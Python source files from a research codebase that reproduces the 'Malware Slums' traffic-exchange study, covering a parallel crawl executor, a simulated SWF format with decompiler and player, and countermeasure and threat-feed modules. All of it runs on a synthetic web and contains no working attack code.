class _ShardHttpServer(SimHttpServer):
    """Shard-confined server front-end over the shared registry.

    Rotation counters start fresh (summed into the main server after
    the conflict check); shortener resolutions are answered from a
    non-mutating peek and logged, so the merge can replay them through
    the shared directory in exchange order — the exact order the serial
    loop would have produced.
    """

    def __init__(self, registry: object, observer: Optional[object] = None) -> None:
        super().__init__(registry, observer=observer)
        #: deferred shortener accounting: (host, slug, referrer_domain, country)
        self.shortener_log: List[Tuple[str, str, str, str]] = []

    def _handle_shortener(self, request: HttpRequest) -> HttpResponse:
        url = request.url
        slug = url.path.lstrip("/")
        referrer_domain = ""
        if request.referrer:
            referrer_url = Url.try_parse(request.referrer)
            if referrer_url is not None:
                referrer_domain = referrer_url.registrable_domain
        self.shortener_log.append((url.host, slug, referrer_domain, request.country))
        stats = self.registry.shorteners.service(url.host).stats(slug)
        if stats is None:
            return HttpResponse.not_found(url=url)
        return HttpResponse.redirect(stats.long_url, status=301, url=url)


@dataclass
class _ShardJob:
    """One shard's confined runtime, built on the main thread."""

    server: _ShardHttpServer
    client: SimHttpClient
    clock: SimClock
    dataset: CrawlDataset
    buffer: Optional[RecordingObserver]
    registry: object


@dataclass
class _ShardResult:
    """What one shard's worker hands back to the merge."""

    stats: CrawlStats
    dataset: CrawlDataset
    server: _ShardHttpServer
    #: the shard clock at session end (started at zero)
    duration: float


@dataclass
class _CrawlPrep:
    """Main-thread state carried from prepare to merge."""

    #: pre-crawl deep copies of every exchange, for the serial fallback
    snapshots: Dict[str, object]
    #: set when the shared clock is not simulated — skip sharding entirely
    force_serial: bool = False


class ParallelCrawlExecutor(PhaseExecutor):
    """Fans exchange surf sessions out over a worker pool.

    ``execute(specs, pipeline, observer)`` takes the pipeline itself as
    the phase context: shards read its registry, and the merge writes
    its dataset, crawl stats, server counters, and shared clock.
    """

    phase_name = "crawl"

    def __init__(self, workers: int = 4,
                 pool_factory: Optional[object] = None) -> None:
        # one shard per exchange: the exchange is the isolation boundary,
        # so finer shards are impossible and coarser ones waste overlap
        super().__init__(workers=workers, shards_per_worker=1,
                         pool_factory=pool_factory)

    # -- PhaseExecutor hooks -------------------------------------------------
    def execute(self, specs: Sequence[CrawlSpec], pipeline: object,
                observer: Optional[object] = None) -> CrawlExecution:
        """Crawl every spec'd exchange; bit-identical to the serial loop."""
        return super().execute(specs, pipeline, observer)

    def prepare(self, specs: Sequence[CrawlSpec], pipeline: object,
                observer: Optional[object]) -> _CrawlPrep:
        # HAR/span timestamps can only be reconciled on a simulated
        # clock; a wall clock means serial semantics from the start
        force_serial = not isinstance(pipeline.client.clock, SimClock)
        snapshots = {} if force_serial else {
            spec.name: copy.deepcopy(spec.exchange) for spec in specs
        }
        return _CrawlPrep(snapshots=snapshots, force_serial=force_serial)

    def shard_label(self, shard: object) -> str:
        return shard.name

    def shard_units(self, shard: object) -> int:
        return shard.steps

    def shard(self, specs: Sequence[CrawlSpec], pipeline: object,
              state: _CrawlPrep) -> List[CrawlSpec]:
        if state.force_serial:
            return []
        return list(specs)

    def shard_state(self, spec: CrawlSpec, buffer: Optional[RecordingObserver],
                    pipeline: object, state: _CrawlPrep) -> _ShardJob:
        server = _ShardHttpServer(pipeline.web.registry, observer=buffer)
        clock = SimClock()
        client = SimHttpClient(server, clock=clock, observer=buffer)
        return _ShardJob(server=server, client=client, clock=clock,
                         dataset=CrawlDataset(), buffer=buffer,
                         registry=pipeline.web.registry)

    def run_shard(self, spec: CrawlSpec, job: _ShardJob) -> _ShardResult:
        """One worker invocation: surf one exchange end to end."""
        browser = BrowserSession(
            client=job.client,
            registry=job.registry,
            dataset=job.dataset,
            exchange_name=spec.name,
            exchange_host=spec.host,
            observer=job.buffer,
        )
        crawler = ExchangeCrawler(
            spec.exchange, browser, random.Random(spec.seed),
            account_id="measurement-%s" % spec.name,
            observer=job.buffer,
        )
        stats = crawler.crawl(spec.steps)
        return _ShardResult(stats=stats, dataset=job.dataset,
                            server=job.server, duration=job.clock.now())

    def merge(self, specs: Sequence[CrawlSpec], pipeline: object,
              state: _CrawlPrep, shards: List[CrawlSpec],
              results: List[_ShardResult],
              buffers: List[Optional[RecordingObserver]],
              observer: Optional[object]) -> CrawlExecution:
        if state.force_serial or self._rotation_overlap(pipeline, results):
            return self._serial_fallback(specs, pipeline, state, results, observer)

        clock = pipeline.client.clock
        shard_stats: List[CrawlShardStats] = []
        for spec, result, buffer in zip(shards, results, buffers):
            if observer is not None:
                with observer.span("crawl.exchange", exchange=spec.name,
                                   steps=spec.steps):
                    with observer.frame("exchange:%s" % spec.name):
                        self._merge_shard(pipeline, spec, result, buffer,
                                          observer, clock)
            else:
                self._merge_shard(pipeline, spec, result, None, None, clock)
            shard_stats.append(CrawlShardStats(
                index=spec.index, exchange=spec.name, steps=spec.steps,
                busy_seconds=result.duration,
                requests=result.server.requests_served,
            ))

        execution = CrawlExecution(
            stats=dict(pipeline.crawl_stats),
            workers=self.workers,
            shard_stats=shard_stats,
            serial_seconds=sum(s.busy_seconds for s in shard_stats),
            parallel_seconds=self.makespan(shard_stats),
        )
        self._emit_metrics(execution, observer)
        return execution

    # ------------------------------------------------------------------
    def _merge_shard(self, pipeline: object, spec: CrawlSpec,
                     result: _ShardResult, buffer: Optional[RecordingObserver],
                     observer: Optional[object], clock: SimClock) -> None:
        """Fold one shard back exactly as the serial loop would have.

        Runs inside the exchange's span/frame.  The shared clock is
        *replayed*, not shifted: every crawl-phase advance is the
        client's per-request ``REQUEST_SECONDS``, captured as one HAR
        entry, so re-advancing per entry and restamping ``started``
        performs the identical float-accumulation sequence the serial
        loop did — offset-adding a shard-local sum would round
        differently in the last ulp.  The telemetry buffer replays
        *after*, so the ``crawl.exchange.done`` event lands on the
        session-end instant.
        """
        pipeline.crawl_stats[spec.name] = result.stats
        pipeline.dataset.records.extend(result.dataset.records)
        for url, cached in result.dataset.content.items():
            # first capture wins across exchanges, in exchange order —
            # the same winner the serial loop picks
            pipeline.dataset.cache_content(url, cached)
        shard_log = result.dataset.har_logs.get(spec.name)
        if shard_log is not None:
            for entry in shard_log.entries:
                clock.advance(SimHttpClient.REQUEST_SECONDS)
                entry.started = clock.now()
            pipeline.dataset.har_log(spec.name).extend(shard_log.entries)
        # server-side accounting continues into the scan phase, so the
        # main server must hold the post-crawl totals
        pipeline.server.requests_served += result.server.requests_served
        rotation = pipeline.server._rotation_counters
        for key, count in result.server._rotation_counters.items():
            rotation[key] = rotation.get(key, 0) + count
        # replay deferred shortener accounting through the shared
        # directory (hit counts, referrer/country Counters feeding
        # Table IV insert in exactly the serial order)
        shorteners = pipeline.web.registry.shorteners
        for host, slug, referrer_domain, country in result.server.shortener_log:
            shorteners.service(host).resolve(slug, referrer=referrer_domain,
                                             country=country)
        if buffer is not None:
            buffer.replay(observer)

    def _rotation_overlap(self, pipeline: object,
                          results: List[_ShardResult]) -> bool:
        """True when summing rotation counters would change semantics.

        Each rotating redirector hands out targets round-robin; if two
        exchanges hit the same one, the interleaving matters and only
        the serial loop reproduces it.
        """
        seen: Dict[str, int] = {}
        for result in results:
            for key in result.server._rotation_counters:
                if key in seen or pipeline.server._rotation_counters.get(key):
                    return True
                seen[key] = 1
        return False

    def _serial_fallback(self, specs: Sequence[CrawlSpec], pipeline: object,
                         state: _CrawlPrep, results: List[_ShardResult],
                         observer: Optional[object]) -> CrawlExecution:
        """Restore pre-crawl state and run the reference serial loop."""
        run_specs = list(specs)
        if not state.force_serial:
            # shards mutated the exchanges (members, credits, campaign
            # cursors, RNG streams); restore the pre-crawl deep copies
            run_specs = [replace(spec, exchange=state.snapshots[spec.name])
                         for spec in specs]
            for spec in run_specs:
                pipeline.exchanges[spec.name] = spec.exchange
        pipeline._crawl_serial(run_specs)
        serial_seconds = sum(result.duration for result in results)
        execution = CrawlExecution(
            stats=dict(pipeline.crawl_stats),
            workers=self.workers,
            shard_stats=[],
            serial_seconds=serial_seconds,
            parallel_seconds=serial_seconds,
            fallback_serial=True,
        )
        self._emit_metrics(execution, observer)
        return execution

    def _emit_metrics(self, execution: CrawlExecution,
                      observer: Optional[object]) -> None:
        if observer is None:
            return
        observer.count("crawlexec.shards", len(execution.shard_stats))
        observer.gauge_set("crawlexec.workers", execution.workers)
        observer.gauge_max("crawlexec.queue.depth", len(execution.shard_stats))
        observer.gauge_set("crawlexec.worker.utilisation", execution.utilisation)
        observer.gauge_set("crawlexec.serial_seconds", execution.serial_seconds)
        observer.gauge_set("crawlexec.parallel_seconds", execution.parallel_seconds)
        observer.gauge_set("crawlexec.speedup", execution.speedup)
        if execution.fallback_serial:
            observer.count("crawlexec.fallback.serial")
        for stats in execution.shard_stats:
            observer.observe("crawlexec.shard.busy_seconds", stats.busy_seconds)
            observer.observe("crawlexec.shard.steps", stats.steps)


class SerialCrawlExecutor(ParallelCrawlExecutor):
    """One worker, inline execution, no threads — executor accounting
    (shard stats, simulated makespan) with serial scheduling."""

    def __init__(self) -> None:
        super().__init__(workers=1, pool_factory=InlineExecutor)
