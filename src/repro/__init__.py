"""repro — reproduction of "Malware Slums: Measurement and Analysis of
Malware on Traffic Exchanges" (DSN 2016).

Quickstart::

    from repro import MalwareSlumsStudy, StudyConfig, render_full_report

    study = MalwareSlumsStudy(StudyConfig(seed=2016, scale=0.02))
    results = study.run()
    print(render_full_report(results))

Package map (see DESIGN.md for the full inventory):

* :mod:`repro.core` — study orchestration, results, reporting
* :mod:`repro.simweb` — the synthetic web (URLs, sites, shorteners, generator)
* :mod:`repro.htmlparse` — from-scratch HTML tokenizer/DOM/parser
* :mod:`repro.jsengine` — JavaScript lexer/parser/interpreter + browser sandbox
* :mod:`repro.flashsim` — SWF container, decompiler, player
* :mod:`repro.httpsim` — HTTP simulation with HAR capture
* :mod:`repro.exchanges` — auto-surf/manual-surf exchange engines
* :mod:`repro.malware` — inert malware artifact generators
* :mod:`repro.detection` — VirusTotal/Quttera simulations, blacklists, vetting
* :mod:`repro.crawler` — crawl sessions, dataset, end-to-end pipeline
* :mod:`repro.analysis` — table/figure computation
"""

from .core import MalwareSlumsStudy, StudyConfig, StudyResults, render_full_report

__version__ = "1.0.0"

__all__ = [
    "MalwareSlumsStudy",
    "StudyConfig",
    "StudyResults",
    "render_full_report",
    "__version__",
]
