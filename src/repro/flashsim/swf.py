"""Simulated SWF container format.

Models the real SWF layout closely enough that analysis code has to do
real parsing: a 3-byte signature (``FWS`` uncompressed / ``CWS``
zlib-compressed body), version byte, file length, and a sequence of
tagged records.  Tags carry either metadata or an encoded
:class:`~repro.flashsim.actions.ActionProgram`.
"""

from __future__ import annotations

import struct
import zlib
from dataclasses import dataclass, field
from typing import List, Optional

from .actions import ActionProgram, decode_program, encode_program

__all__ = ["SwfTag", "SwfFile", "TagCode", "SwfError"]


class SwfError(ValueError):
    """Raised for malformed SWF bytes."""


class TagCode:
    """SWF tag codes (subset, mirroring the real spec's numbering)."""

    END = 0
    SHOW_FRAME = 1
    SET_BACKGROUND_COLOR = 9
    DO_ACTION = 12
    FILE_ATTRIBUTES = 69
    METADATA = 77
    DEFINE_SPRITE = 39

    NAMES = {
        END: "End",
        SHOW_FRAME: "ShowFrame",
        SET_BACKGROUND_COLOR: "SetBackgroundColor",
        DO_ACTION: "DoAction",
        FILE_ATTRIBUTES: "FileAttributes",
        METADATA: "Metadata",
        DEFINE_SPRITE: "DefineSprite",
    }


@dataclass
class SwfTag:
    """One tagged record."""

    code: int
    body: bytes = b""

    @property
    def name(self) -> str:
        return TagCode.NAMES.get(self.code, "Unknown%d" % self.code)


@dataclass
class SwfFile:
    """A parsed (or to-be-serialized) SWF file."""

    version: int = 10
    compressed: bool = True
    width: int = 550
    height: int = 400
    frame_rate: int = 24
    tags: List[SwfTag] = field(default_factory=list)

    # -- convenience ------------------------------------------------------
    def add_actions(self, program: ActionProgram) -> "SwfFile":
        self.tags.append(SwfTag(TagCode.DO_ACTION, encode_program(program)))
        return self

    def add_metadata(self, text: str) -> "SwfFile":
        self.tags.append(SwfTag(TagCode.METADATA, text.encode("utf-8")))
        return self

    def action_programs(self) -> List[ActionProgram]:
        """Decode every DoAction tag."""
        out: List[ActionProgram] = []
        for tag in self.tags:
            if tag.code == TagCode.DO_ACTION:
                out.append(decode_program(tag.body))
        return out

    @property
    def metadata(self) -> Optional[str]:
        for tag in self.tags:
            if tag.code == TagCode.METADATA:
                return tag.body.decode("utf-8", errors="replace")
        return None

    # -- serialization -----------------------------------------------------
    def to_bytes(self) -> bytes:
        body = bytearray()
        body += struct.pack("<HHB", self.width, self.height, self.frame_rate)
        for tag in self.tags:
            body += struct.pack("<HI", tag.code, len(tag.body))
            body += tag.body
        body += struct.pack("<HI", TagCode.END, 0)
        payload = zlib.compress(bytes(body)) if self.compressed else bytes(body)
        signature = b"CWS" if self.compressed else b"FWS"
        header = signature + struct.pack("<B", self.version)
        total = len(header) + 4 + len(body)  # uncompressed length, per spec
        return header + struct.pack("<I", total) + payload

    @classmethod
    def from_bytes(cls, data: bytes) -> "SwfFile":
        if len(data) < 8:
            raise SwfError("file too short")
        signature = data[:3]
        if signature not in (b"FWS", b"CWS"):
            raise SwfError("bad signature %r" % signature)
        version = data[3]
        compressed = signature == b"CWS"
        payload = data[8:]
        if compressed:
            try:
                payload = zlib.decompress(payload)
            except zlib.error as exc:
                raise SwfError("bad compressed body: %s" % exc) from exc
        if len(payload) < 5:
            raise SwfError("truncated body")
        width, height, frame_rate = struct.unpack_from("<HHB", payload, 0)
        offset = 5
        tags: List[SwfTag] = []
        while offset + 6 <= len(payload):
            code, length = struct.unpack_from("<HI", payload, offset)
            offset += 6
            if code == TagCode.END:
                break
            if offset + length > len(payload):
                raise SwfError("truncated tag body (code %d)" % code)
            tags.append(SwfTag(code, payload[offset : offset + length]))
            offset += length
        return cls(
            version=version,
            compressed=compressed,
            width=width,
            height=height,
            frame_rate=frame_rate,
            tags=tags,
        )

    @staticmethod
    def sniff(data: bytes) -> bool:
        """True when ``data`` looks like a SWF file."""
        return data[:3] in (b"FWS", b"CWS")
