"""Simulated Flash (SWF) substrate: container format, actions, decompiler, player.

The paper's Section V-D decompiles malicious SWF files and finds
``ExternalInterface`` calls into obfuscated JavaScript; this package
provides structurally equivalent SWF artifacts and the tooling to
analyze them::

    from repro.flashsim import SwfFile, ActionProgram, OpCode, decompile, FlashPlayer
"""

from .actions import ActionProgram, Op, OpCode, decode_program, encode_program
from .decompiler import DecompiledSwf, decompile, decompile_bytes
from .player import FlashPlayer, PlaybackLog, StageState
from .swf import SwfError, SwfFile, SwfTag, TagCode

__all__ = [
    "ActionProgram",
    "DecompiledSwf",
    "FlashPlayer",
    "Op",
    "OpCode",
    "PlaybackLog",
    "StageState",
    "SwfError",
    "SwfFile",
    "SwfTag",
    "TagCode",
    "decode_program",
    "decompile",
    "decompile_bytes",
    "encode_program",
]
