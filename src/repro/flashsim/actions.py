"""Simplified ActionScript bytecode model.

Real SWF files carry AVM bytecode; our simulated SWF container carries a
small stack-free opcode list that captures the behaviours the paper's
Flash case study observes (Section V-D): ``Security.allowDomain``,
stage manipulation (scale mode, display state), event-listener wiring,
``ExternalInterface.call`` out to JavaScript, ``navigateToURL`` and
``getURL`` popups/navigations.

Each opcode serializes to a compact binary record so the decompiler has
real bytes to work on.
"""

from __future__ import annotations

import struct
from dataclasses import dataclass, field
from typing import List, Tuple

__all__ = ["Op", "OpCode", "ActionProgram", "encode_program", "decode_program"]


class OpCode:
    """Opcode constants (one byte each)."""

    ALLOW_DOMAIN = 0x01        # operand: domain pattern
    SET_SCALE_MODE = 0x02      # operand: mode name
    SET_DISPLAY_STATE = 0x03   # operand: "fullScreen" | "normal"
    ADD_EVENT_LISTENER = 0x04  # operands: event name, handler label
    EXTERNAL_CALL = 0x05       # operands: JS function name, arg string
    NAVIGATE_TO_URL = 0x06     # operands: url, window target
    SET_ALPHA = 0x07           # operand: alpha percent (string)
    SET_SIZE = 0x08            # operands: width, height (strings)
    LABEL = 0x09               # operand: handler label (start of handler)
    END_HANDLER = 0x0A         # no operands
    TRACE = 0x0B               # operand: message
    LOAD_MOVIE = 0x0C          # operands: url, target

    NAMES = {
        ALLOW_DOMAIN: "allowDomain",
        SET_SCALE_MODE: "setScaleMode",
        SET_DISPLAY_STATE: "setDisplayState",
        ADD_EVENT_LISTENER: "addEventListener",
        EXTERNAL_CALL: "externalCall",
        NAVIGATE_TO_URL: "navigateToURL",
        SET_ALPHA: "setAlpha",
        SET_SIZE: "setSize",
        LABEL: "label",
        END_HANDLER: "endHandler",
        TRACE: "trace",
        LOAD_MOVIE: "loadMovie",
    }


@dataclass(frozen=True)
class Op:
    """One action opcode with up to two string operands."""

    code: int
    operands: Tuple[str, ...] = ()

    @property
    def name(self) -> str:
        return OpCode.NAMES.get(self.code, "op_%02x" % self.code)


@dataclass
class ActionProgram:
    """A flat list of opcodes; handlers are LABEL..END_HANDLER spans."""

    ops: List[Op] = field(default_factory=list)

    def add(self, code: int, *operands: str) -> "ActionProgram":
        self.ops.append(Op(code, tuple(operands)))
        return self

    def handler(self, label: str) -> List[Op]:
        """The opcodes between ``LABEL label`` and the next END_HANDLER."""
        out: List[Op] = []
        active = False
        for op in self.ops:
            if op.code == OpCode.LABEL and op.operands and op.operands[0] == label:
                active = True
                continue
            if active and op.code == OpCode.END_HANDLER:
                break
            if active:
                out.append(op)
        return out

    def top_level(self) -> List[Op]:
        """Opcodes outside any handler (executed at load)."""
        out: List[Op] = []
        depth = 0
        for op in self.ops:
            if op.code == OpCode.LABEL:
                depth += 1
                continue
            if op.code == OpCode.END_HANDLER:
                depth = max(0, depth - 1)
                continue
            if depth == 0:
                out.append(op)
        return out

    @property
    def external_calls(self) -> List[Tuple[str, str]]:
        """All (function, argument) pairs from EXTERNAL_CALL ops anywhere."""
        return [
            (op.operands[0] if op.operands else "", op.operands[1] if len(op.operands) > 1 else "")
            for op in self.ops
            if op.code == OpCode.EXTERNAL_CALL
        ]


def encode_program(program: ActionProgram) -> bytes:
    """Serialize to bytes: [count u16] then per-op [code u8][argc u8][len u16 + utf8]*."""
    out = bytearray(struct.pack("<H", len(program.ops)))
    for op in program.ops:
        out += struct.pack("<BB", op.code, len(op.operands))
        for operand in op.operands:
            data = operand.encode("utf-8")
            out += struct.pack("<H", len(data))
            out += data
    return bytes(out)


def decode_program(data: bytes) -> ActionProgram:
    """Inverse of :func:`encode_program`; raises ValueError on truncation."""
    if len(data) < 2:
        raise ValueError("action block too short")
    (count,) = struct.unpack_from("<H", data, 0)
    offset = 2
    program = ActionProgram()
    for _ in range(count):
        if offset + 2 > len(data):
            raise ValueError("truncated opcode header")
        code, argc = struct.unpack_from("<BB", data, offset)
        offset += 2
        operands: List[str] = []
        for _ in range(argc):
            if offset + 2 > len(data):
                raise ValueError("truncated operand length")
            (length,) = struct.unpack_from("<H", data, offset)
            offset += 2
            if offset + length > len(data):
                raise ValueError("truncated operand body")
            operands.append(data[offset : offset + length].decode("utf-8"))
            offset += length
        program.ops.append(Op(code, tuple(operands)))
    return program
