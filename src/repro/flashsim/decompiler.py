"""SWF decompiler: opcodes back to readable pseudo-ActionScript.

Section V-D: "We then decompiled the files to get the swift code and
found several external calls made to the obfuscated JavaScript code."
This module produces that decompiled view for analysts and for the
scanner heuristics, and summarizes the security-relevant facts.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import List, Tuple

from .actions import ActionProgram, Op, OpCode
from .swf import SwfFile

__all__ = ["DecompiledSwf", "decompile", "decompile_bytes"]


@dataclass
class DecompiledSwf:
    """Decompilation output plus extracted indicators."""

    source: str
    external_calls: List[Tuple[str, str]] = field(default_factory=list)
    allow_domains: List[str] = field(default_factory=list)
    navigations: List[str] = field(default_factory=list)
    event_handlers: List[str] = field(default_factory=list)
    transparent_overlay: bool = False
    fullscreen_toggle: bool = False

    @property
    def calls_external_interface(self) -> bool:
        return bool(self.external_calls)

    @property
    def allows_any_domain(self) -> bool:
        return "*" in self.allow_domains


def _format_op(op: Op, indent: str) -> str:
    operands = op.operands
    if op.code == OpCode.ALLOW_DOMAIN:
        return '%sSecurity.allowDomain("%s");' % (indent, operands[0] if operands else "")
    if op.code == OpCode.SET_SCALE_MODE:
        return "%sstage.scaleMode = StageScaleMode.%s;" % (indent, (operands[0] if operands else "").upper())
    if op.code == OpCode.SET_DISPLAY_STATE:
        state = operands[0] if operands else ""
        const = "FULL_SCREEN" if state == "fullScreen" else "NORMAL"
        return "%sstage.displayState = StageDisplayState.%s;" % (indent, const)
    if op.code == OpCode.EXTERNAL_CALL:
        name = operands[0] if operands else ""
        arg = operands[1] if len(operands) > 1 else ""
        if arg:
            return '%sExternalInterface.call("%s", "%s");' % (indent, name, arg)
        return '%sExternalInterface.call("%s");' % (indent, name)
    if op.code == OpCode.NAVIGATE_TO_URL:
        url = operands[0] if operands else ""
        target = operands[1] if len(operands) > 1 else "_blank"
        return '%snavigateToURL(new URLRequest("%s"), "%s");' % (indent, url, target)
    if op.code == OpCode.SET_ALPHA:
        return "%sthis.alpha = %s;" % (indent, operands[0] if operands else "0")
    if op.code == OpCode.SET_SIZE:
        width = operands[0] if operands else "0"
        height = operands[1] if len(operands) > 1 else "0"
        return "%sthis.width = %s; this.height = %s;" % (indent, width, height)
    if op.code == OpCode.TRACE:
        return '%strace("%s");' % (indent, operands[0] if operands else "")
    if op.code == OpCode.LOAD_MOVIE:
        return '%sloadMovie("%s", "%s");' % (
            indent,
            operands[0] if operands else "",
            operands[1] if len(operands) > 1 else "_root",
        )
    return "%s// %s %s" % (indent, op.name, ", ".join(operands))


def decompile(swf: SwfFile) -> DecompiledSwf:
    """Decompile a parsed :class:`SwfFile`."""
    lines: List[str] = ["package {", "  public class Movie extends MovieClip {", "    public function Movie() {"]
    result = DecompiledSwf(source="")
    for program in swf.action_programs():
        _decompile_program(program, lines, result)
    lines += ["    }", "  }", "}"]
    result.source = "\n".join(lines)
    return result


def _decompile_program(program: ActionProgram, lines: List[str], result: DecompiledSwf) -> None:
    in_handler = False
    for op in program.ops:
        if op.code == OpCode.LABEL:
            event = op.operands[0] if op.operands else "?"
            result.event_handlers.append(event)
            lines.append(
                "      stage.addEventListener(MouseEvent.%s, function(e:MouseEvent):void {"
                % event.upper()
            )
            in_handler = True
            continue
        if op.code == OpCode.END_HANDLER:
            lines.append("      });")
            in_handler = False
            continue
        indent = "        " if in_handler else "      "
        lines.append(_format_op(op, indent))
        if op.code == OpCode.EXTERNAL_CALL:
            name = op.operands[0] if op.operands else ""
            arg = op.operands[1] if len(op.operands) > 1 else ""
            result.external_calls.append((name, arg))
        elif op.code == OpCode.ALLOW_DOMAIN and op.operands:
            result.allow_domains.append(op.operands[0])
        elif op.code == OpCode.NAVIGATE_TO_URL and op.operands:
            result.navigations.append(op.operands[0])
        elif op.code == OpCode.SET_ALPHA and op.operands:
            try:
                if float(op.operands[0]) <= 0.05:
                    result.transparent_overlay = True
            except ValueError:
                pass
        elif op.code == OpCode.SET_DISPLAY_STATE and op.operands:
            if op.operands[0] == "fullScreen":
                result.fullscreen_toggle = True


def decompile_bytes(data: bytes) -> DecompiledSwf:
    """Parse raw SWF bytes and decompile; raises SwfError on bad input."""
    return decompile(SwfFile.from_bytes(data))
