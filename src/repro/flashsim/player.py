"""Flash player simulation.

Executes an :class:`~repro.flashsim.actions.ActionProgram` against a
stage model and, when embedded in a page, bridges
``ExternalInterface.call`` into the page's JavaScript interpreter — the
exact mechanism the Section V-D sample uses to pop advertisement windows
when the victim clicks anywhere on the (invisible, page-covering) Flash
object.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Any, List, Optional, Tuple

from ..jsengine.values import JSFunction
from .actions import Op, OpCode
from .swf import SwfFile

__all__ = ["StageState", "PlaybackLog", "FlashPlayer"]


@dataclass
class StageState:
    """The mutable stage the movie manipulates."""

    scale_mode: str = "showAll"
    display_state: str = "normal"
    alpha: float = 1.0
    width: float = 550.0
    height: float = 400.0

    @property
    def invisible(self) -> bool:
        return self.alpha <= 0.05

    def covers_page(self, page_width: float = 1366.0, page_height: float = 768.0) -> bool:
        return (
            self.scale_mode.lower() in ("exact_fit", "exactfit")
            and self.width >= page_width
            and self.height >= page_height
        ) or (self.width >= page_width and self.height >= page_height)


@dataclass
class PlaybackLog:
    """Security-relevant events observed during playback."""

    external_calls: List[Tuple[str, str]] = field(default_factory=list)
    navigations: List[str] = field(default_factory=list)
    allow_domains: List[str] = field(default_factory=list)
    traces: List[str] = field(default_factory=list)
    loaded_movies: List[str] = field(default_factory=list)
    fullscreen_entered: bool = False


class FlashPlayer:
    """Plays a movie; dispatches events; bridges ExternalInterface to JS.

    Parameters
    ----------
    browser_host:
        Optional :class:`repro.jsengine.hostenv.BrowserHost`.  When set,
        ``ExternalInterface.call(name)`` looks up ``name`` in the page's
        global scope and invokes it, so Flash→JS attack chains execute
        end to end.
    """

    def __init__(self, swf: SwfFile, browser_host: Optional[Any] = None) -> None:
        self.swf = swf
        self.browser_host = browser_host
        self.stage = StageState(width=float(swf.width), height=float(swf.height))
        self.log = PlaybackLog()
        self._programs = swf.action_programs()

    def load(self) -> "FlashPlayer":
        """Run the top-level (frame-1) actions of every DoAction tag."""
        for program in self._programs:
            for op in program.top_level():
                self._execute(op)
        return self

    def dispatch(self, event: str) -> None:
        """Fire an event (e.g. ``mouse_up``), running registered handlers."""
        for program in self._programs:
            if any(
                op.code == OpCode.ADD_EVENT_LISTENER and op.operands and op.operands[0] == event
                for op in program.top_level()
            ) or any(op.code == OpCode.LABEL and op.operands and op.operands[0] == event for op in program.ops):
                for op in program.handler(event):
                    self._execute(op)

    def _execute(self, op: Op) -> None:
        operands = op.operands
        if op.code == OpCode.ALLOW_DOMAIN:
            self.log.allow_domains.append(operands[0] if operands else "")
        elif op.code == OpCode.SET_SCALE_MODE:
            self.stage.scale_mode = operands[0] if operands else "showAll"
        elif op.code == OpCode.SET_DISPLAY_STATE:
            state = operands[0] if operands else "normal"
            self.stage.display_state = state
            if state == "fullScreen":
                self.log.fullscreen_entered = True
        elif op.code == OpCode.SET_ALPHA:
            try:
                self.stage.alpha = float(operands[0]) if operands else 1.0
            except ValueError:
                pass
        elif op.code == OpCode.SET_SIZE:
            try:
                self.stage.width = float(operands[0])
                self.stage.height = float(operands[1])
            except (ValueError, IndexError):
                pass
        elif op.code == OpCode.EXTERNAL_CALL:
            name = operands[0] if operands else ""
            arg = operands[1] if len(operands) > 1 else ""
            self.log.external_calls.append((name, arg))
            self._bridge_external_call(name, arg)
        elif op.code == OpCode.NAVIGATE_TO_URL:
            url = operands[0] if operands else ""
            self.log.navigations.append(url)
            if self.browser_host is not None:
                self.browser_host.log.popups.append(url)
        elif op.code == OpCode.TRACE:
            self.log.traces.append(operands[0] if operands else "")
        elif op.code == OpCode.LOAD_MOVIE:
            self.log.loaded_movies.append(operands[0] if operands else "")
        # LABEL/END_HANDLER are structural; ADD_EVENT_LISTENER is declarative

    def _bridge_external_call(self, name: str, arg: str) -> None:
        if self.browser_host is None:
            return
        interpreter = self.browser_host.interpreter
        env = interpreter.global_env
        self.browser_host.log.external_interface_registrations.append(name)
        # dotted names resolve through the global scope (e.g. window.NqPnfu)
        parts = name.split(".")
        try:
            target: Any = env.lookup(parts[0]) if env.has(parts[0]) else None
            for part in parts[1:]:
                if target is None:
                    break
                getter = getattr(target, "js_get", None)
                target = getter(part) if getter else None
            # isinstance, not a class-name check: the bytecode backend's
            # VMFunction subclasses JSFunction and must bridge identically
            if target is not None and target is not False and callable(getattr(target, "__call__", None)):
                interpreter.call_function(target, [arg] if arg else [])
            elif isinstance(target, JSFunction):
                interpreter.call_function(target, [arg] if arg else [])
        except Exception as exc:  # noqa: BLE001 - playback never crashes the scanner
            self.browser_host.log.errors.append("ExternalInterface: %s" % exc)
