"""Countermeasures from the paper's Section VI recommendations.

* :class:`ExchangeWarningExtension` — the browser-plugin warning users
  before they surf a traffic exchange,
* :class:`AdFraudDetector` — the ad-network-side impression vetting that
  makes exchanges unprofitable (AdSense/DoubleClick disallow them).
"""

from .adfraud import AdFraudDetector, ImpressionRecord, PublisherReport
from .feed import FeedEntry, ThreatFeed, build_threat_feed
from .impressions import impressions_from_surf, simulate_exchange_impressions
from .warning import KNOWN_EXCHANGE_DOMAINS, ExchangeWarningExtension, NavigationWarning

__all__ = [
    "AdFraudDetector",
    "ExchangeWarningExtension",
    "FeedEntry",
    "ImpressionRecord",
    "KNOWN_EXCHANGE_DOMAINS",
    "NavigationWarning",
    "PublisherReport",
    "ThreatFeed",
    "build_threat_feed",
    "impressions_from_surf",
    "simulate_exchange_impressions",
]
