"""Threat-intelligence feed built from the study's own measurements.

Closes the loop the paper's conclusion asks for: the crawl's scan
verdicts become a domain blocklist that the browser warning extension
and the ad-network vetting can consume — the same way real measurement
studies feed Safe-Browsing-style lists.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Dict, List, Set

from ..crawler.pipeline import ScanOutcome
from ..crawler.storage import CrawlDataset, RecordKind
from ..simweb.url import Url

__all__ = ["FeedEntry", "ThreatFeed", "build_threat_feed"]


@dataclass(frozen=True)
class FeedEntry:
    """One blocklisted domain with its supporting evidence."""

    domain: str
    malicious_urls: int
    total_urls: int
    exchanges_seen: int
    example_url: str = ""

    @property
    def malicious_fraction(self) -> float:
        return self.malicious_urls / self.total_urls if self.total_urls else 0.0


@dataclass
class ThreatFeed:
    """A queryable domain blocklist."""

    entries: Dict[str, FeedEntry] = field(default_factory=dict)

    def __len__(self) -> int:
        return len(self.entries)

    def __contains__(self, domain: str) -> bool:
        return domain in self.entries

    def contains_url(self, url: str) -> bool:
        parsed = Url.try_parse(url)
        if parsed is None:
            return False
        return parsed.registrable_domain in self.entries or parsed.host in self.entries

    @property
    def domains(self) -> Set[str]:
        return set(self.entries)

